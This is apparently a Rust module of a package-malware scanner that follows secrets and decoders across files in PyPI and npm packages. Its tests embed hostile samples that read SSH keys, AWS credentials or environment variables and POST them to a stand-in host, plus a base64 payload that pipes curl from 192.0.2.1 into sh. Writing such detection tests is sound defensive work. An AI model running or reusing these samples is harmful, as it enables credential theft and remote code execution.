//! What flows between files: a secret that one module reads and another sends, a decoder that one has and another uses,
//! a function that does its work because another file calls it while it is loaded.
//!
//! A file is read again with what others give it, at most so often, and only where it matters: who is given something
//! must do something, and what is handed over must tell something.

use super::reach::{self, Files, Resolve};
use super::{File, Kind, Package};
use crate::facts::{Carried, Foreign, Gift, Reached, Sink};
use crate::flow::Outside;
use std::collections::{BTreeMap, BTreeSet, HashMap};
use trustmill_core::scan::When;

/// How far things flow: from a file to one that it uses, and on.
const ROUNDS: usize = 3;
/// Files of a package that are read again.
const MOST: usize = 48;
/// Files that are larger are whole programs in one.
const LARGEST: usize = 200_000;

/// Reads files again with what others give them.
pub(super) fn join(package: &mut Package) {
    let (kind, resolve): (Kind, Resolve) = match package.ecosystem.as_str() {
        "pypi" => (Kind::Python, reach::python),
        "npm" => (Kind::JavaScript, reach::node),
        _ => return,
    };
    let taking = |file: &&File| takes_part(file, kind);
    if package.files.iter().filter(taking).take(2).count() < 2 || !package.files.iter().any(does) {
        return;
    }
    let paths: Vec<String> = package.files.iter().map(|file| file.path.clone()).collect();
    let name = package.manifest.name.clone();
    let files = Files::new(&paths, &name);
    let mut outside: BTreeMap<usize, Outside> = BTreeMap::new();
    let mut ways = Ways { files: &files, resolve, known: HashMap::new() };
    let mut left = MOST;
    for _ in 0..ROUNDS {
        let news = news(package, kind, &mut ways, &mut outside);
        if news.is_empty() {
            return;
        }
        for at in news {
            let (Some(file), Some(outside)) = (package.files.get_mut(at), outside.get(&at)) else { continue };
            if left == 0 || !package.reading.again(file, outside) {
                return;
            }
            left -= 1;
        }
    }
}

/// Whether a file is one whose ways are followed.
fn takes_part(file: &File, kind: Kind) -> bool {
    file.kind == kind && file.is_read && file.when > When::Never && file.bytes.len() <= LARGEST
}

/// Whether anything of a file matters to who gives it something.
fn does(file: &File) -> bool {
    file.facts.flows.iter().any(|flow| flow.sink != Sink::Write)
}

/// Whether anything in it waits for being called.
fn waits(file: &File) -> bool {
    let flows = file.facts.flows.iter().map(|flow| flow.reached);
    flows.chain(file.facts.uses.iter().map(|one| one.reached)).any(|reached| reached < Reached::Always)
}

/// Where modules are, looked for once.
struct Ways<'a> {
    files: &'a Files<'a>,
    resolve: Resolve,
    known: HashMap<(usize, Box<str>), Vec<usize>>,
}

impl Ways<'_> {
    fn find(&mut self, at: usize, from: &str, module: &str) -> &[usize] {
        let (files, resolve) = (self.files, self.resolve);
        self.known.entry((at, module.into())).or_insert_with(|| {
            let from = from.split("!/").next().unwrap_or(from);
            let mut found = resolve(files, from, module);
            found.retain(|other| *other != at);
            found.truncate(2);
            found
        })
    }
}

/// Adds what files give one another, and says who is given something new.
fn news(
    package: &Package,
    kind: Kind,
    ways: &mut Ways<'_>,
    outside: &mut BTreeMap<usize, Outside>,
) -> BTreeSet<usize> {
    let mut news = BTreeSet::new();
    for (at, file) in package.files.iter().enumerate().filter(|(_, file)| takes_part(file, kind)) {
        let does_something = does(file);
        for foreign in &file.facts.foreign {
            for other_at in ways.find(at, &file.path, &foreign.module) {
                let Some(other) = package.files.get(*other_at).filter(|file| takes_part(file, kind)) else {
                    continue;
                };
                let gifts = &other.facts.gifts;
                let gift = gifts.binary_search_by(|gift| gift.name.cmp(&foreign.name)).ok();
                let gift = gift.and_then(|gift| gifts.get(gift)).filter(|_| does_something);
                let gift = gift.map(|gift| match unasked(file, foreign) >= Reached::Handed {
                    true => gift.clone(),
                    false => gift.asked_for(),
                });
                if let Some(gift) = gift.filter(Gift::tells)
                    && outside.entry(at).or_default().name(&foreign.module, &gift)
                {
                    news.insert(at);
                }
                if let Some(call) = worth_a_call(file, foreign, other)
                    && outside.entry(*other_at).or_default().call(&call)
                {
                    news.insert(*other_at);
                }
            }
        }
    }
    news
}

/// Whether a use of another file's name runs unasked. What is only called itself runs nothing by being loaded, and what
/// is a program runs when somebody starts it.
fn unasked(file: &File, foreign: &Foreign) -> Reached {
    match () {
        () if file.when == When::Called => Reached::WhenCalled,
        () if file.bytes.starts_with(b"#!") => foreign.reached.min(Reached::AsProgram),
        () => foreign.reached,
    }
}

/// A call as it matters to the file that has the function.
fn worth_a_call(file: &File, foreign: &Foreign, other: &File) -> Option<Foreign> {
    let reached = unasked(file, foreign);
    let runs = reached >= Reached::Handed;
    let args = foreign.args.iter().map(|arg| if runs { arg.clone() } else { arg.asked_for() });
    let args: Vec<Carried> = args.collect();
    let telling = does(other) && args.iter().any(Carried::tells);
    let acting = runs && waits(other) && (does(other) || !other.facts.uses.is_empty());
    (acting || telling).then(|| Foreign { reached, args, ..foreign.clone() })
}

#[cfg(test)]
mod tests {
    use crate::scan;
    use trustmill_core::port::scanner::{File, Job};
    use trustmill_core::scan::Conclusion;

    fn concluded(ecosystem: &str, files: &[(&str, &str)]) -> Conclusion {
        let mut tar =
            tar::Builder::new(flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()));
        for (path, text) in files {
            let mut header = tar::Header::new_ustar();
            header.set_size(text.len() as u64);
            tar.append_data(&mut header, format!("demo-1.0.0/{path}"), text.as_bytes()).unwrap();
        }
        let bytes = tar.into_inner().unwrap().finish().unwrap();
        let name = if ecosystem == "npm" { "demo-1.0.0.tgz" } else { "demo-1.0.0.tar.gz" };
        let file = File { name: name.into(), bytes: bytes.into() };
        let job = Job { ecosystem: ecosystem.into(), name: "demo".into(), file, ..Job::default() };
        scan(&job).unwrap().conclusion
    }

    #[test]
    fn a_secret_of_one_module_is_followed_into_another_that_sends_it() {
        let reader = "import os\ndef take():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
        let sender = "import urllib.request\ndef out(x):\n    urllib.request.urlopen('https://a.example', data=x.encode())\n";
        for entry in [
            "from .a import take\nfrom .b import out\nout(take())\n",
            "from . import a, b\nb.out(a.take())\n",
            "import demo.a\nimport demo.b as b\nfrom demo.a import take as t\nb.out(t())\n",
        ] {
            let files = [("demo/__init__.py", entry), ("demo/a.py", reader), ("demo/b.py", sender)];
            assert!(concluded("pypi", &files) >= Conclusion::Hold, "{entry}");
        }
        let files = [("demo/__init__.py", "x = 1\n"), ("demo/b.py", sender)];
        assert!(concluded("pypi", &files) < Conclusion::Hold);
    }

    #[test]
    fn javascript_hands_over_as_well() {
        let reader = "exports.take = () => JSON.stringify(process.env);\n";
        let sender = "const https = require('https');\nmodule.exports = { out(x) { const r = https.request('https://a.example', { method: 'POST' }); r.write(x); r.end(); } };\n";
        let entry = "const { take } = require('./a');\nconst b = require('./b');\nb.out(take());\n";
        let files = [
            ("package.json", "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}"),
            ("index.js", entry),
            ("a.js", reader),
            ("b.js", sender),
        ];
        assert!(concluded("npm", &files) >= Conclusion::Hold);
    }

    #[test]
    fn a_text_of_one_module_is_decoded_by_another_and_known() {
        let text = "data = 'aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaCcp'\n";
        let code = "import base64\ndef run(x):\n    exec(base64.b64decode(x))\n";
        let entry = "from .text import data\nfrom .code import run\nrun(data)\n";
        let files = [("demo/__init__.py", entry), ("demo/text.py", text), ("demo/code.py", code)];
        assert!(concluded("pypi", &files) >= Conclusion::Hold);
    }

    #[test]
    fn a_key_that_signs_is_not_sent() {
        let keys = "const fs = require('fs'), os = require('os');\nexports.keys = () => JSON.parse(fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8'));\n";
        let entry = |signed: &str| {
            format!(
                "const {{ sign }} = require('aws4');\nconst https = require('https');\nconst {{ keys }} = require('./keys');\nexports.go = () => {{\n  const signed = {signed};\n  const r = https.request({{ hostname: 's3.example.com', headers: signed.headers }});\n  r.end();\n}};\n"
            )
        };
        let concluded = |signed: &str| {
            let manifest = "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}";
            let entry = entry(signed);
            concluded("npm", &[("package.json", manifest), ("index.js", entry.as_str()), ("keys.js", keys)])
        };
        assert!(concluded("sign({ service: 's3' }, keys())") < Conclusion::Hold);
        assert!(concluded("sign({ service: 's3', headers: keys() }, keys())") >= Conclusion::Hold);
    }

    #[test]
    fn what_only_several_files_say_together_blocks_nothing() {
        let sender = "import urllib.request\ndef out(x):\n    urllib.request.urlopen('https://a.example', data=x.encode())\n";
        let body = "data = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\n";
        let entry = format!("import os\nfrom .b import out\n{body}out(data)\n");
        let apart = [("demo/__init__.py", entry.as_str()), ("demo/b.py", sender)];
        assert_eq!(concluded("pypi", &apart), Conclusion::Hold);
        let whole = format!("import os\n{sender}{body}out(data)\n");
        assert_eq!(concluded("pypi", &[("demo/__init__.py", whole.as_str())]), Conclusion::Block);
    }

    #[test]
    fn modules_that_hand_on_to_one_another_for_ever_end() {
        let a =
            "from .b import g\nimport os\ndef f(x):\n    os.system(x)\n    return g(os.environ)\nf(g(1))\n";
        let b =
            "from .a import f\nimport os\ndef g(x):\n    os.system(x)\n    return f(os.environ)\ng(f(1))\n";
        concluded("pypi", &[("demo/__init__.py", a), ("demo/a.py", a), ("demo/b.py", b)]);
    }
}
